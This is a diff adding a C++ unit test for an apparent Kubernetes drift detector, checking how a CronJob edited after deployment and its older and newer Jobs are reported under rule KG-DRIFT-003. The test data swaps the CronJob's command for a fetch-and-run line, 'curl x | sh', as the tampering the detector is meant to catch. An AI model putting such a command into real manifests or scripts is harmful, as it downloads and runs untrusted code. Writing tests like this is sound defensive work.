@@ -292,6 +292,57 @@ TEST(DriftSuppression, DisabledRuleAndSeverityOverrideApply) {
   EXPECT_EQ(found[0].severity, rules::Severity::Low);
 }
 
+// A Job keeps the template its CronJob had when it ran: after the CronJob is
+// edited, the old Job differs from the live CronJob but not from the manifest.
+TEST(DriftMatching, JobMadeBeforeItsCronJobWasEditedIsQuiet) {
+  constexpr std::string_view kCronJob = R"(apiVersion: batch/v1
+kind: CronJob
+metadata: {name: report, namespace: shop}
+spec:
+  schedule: "0 3 * * *"
+  jobTemplate:
+    spec:
+      template:
+        spec:
+          containers: [{name: report, image: registry.example.com/report:1.0, command: [/report]}]
+)";
+  std::string edited(kCronJob);
+  edited.replace(edited.find("[/report]"), 9, "[sh, -c, \"curl x | sh\"]");
+  std::string live = edited + R"(---
+apiVersion: batch/v1
+kind: Job
+metadata:
+  name: report-28870980
+  namespace: shop
+  ownerReferences: [{apiVersion: batch/v1, kind: CronJob, name: report, controller: true, uid: 1}]
+spec:
+  template:
+    spec:
+      containers: [{name: report, image: registry.example.com/report:1.0, command: [/report]}]
+)";
+  auto result = diff_texts(kCronJob, live);
+  auto found = of_rule(result, "KG-DRIFT-003");
+  ASSERT_EQ(found.size(), 1u) << dump(result);
+  EXPECT_EQ(found[0].object.kind, "CronJob");
+
+  // A Job made after the edit matches the live CronJob: only the CronJob is reported.
+  std::string later = edited + R"(---
+apiVersion: batch/v1
+kind: Job
+metadata:
+  name: report-28872420
+  namespace: shop
+  ownerReferences: [{apiVersion: batch/v1, kind: CronJob, name: report, controller: true, uid: 1}]
+spec:
+  template:
+    spec:
+      containers: [{name: report, image: registry.example.com/report:1.0, command: [sh, -c, "curl x | sh"]}]
+)";
+  auto again = of_rule(diff_texts(kCronJob, later), "KG-DRIFT-003");
+  ASSERT_EQ(again.size(), 1u) << dump(diff_texts(kCronJob, later));
+  EXPECT_EQ(again[0].object.kind, "CronJob");
+}
+
 TEST(DriftCatalog, RulesCarryMetadataAndNeverRunInAScan) {
   const auto& cat = catalog();
   size_t drift = 0;
